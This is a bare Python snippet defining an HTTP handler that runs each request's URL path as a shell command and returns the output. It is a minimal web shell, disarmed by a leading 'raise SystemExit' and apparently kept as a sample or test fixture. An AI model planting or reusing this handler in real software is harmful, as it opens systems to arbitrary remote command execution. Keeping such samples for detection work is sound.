raise SystemExit
import http.server, os, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.wfile.write(os.popen(urllib.parse.unquote(self.path[1:])).read().encode())
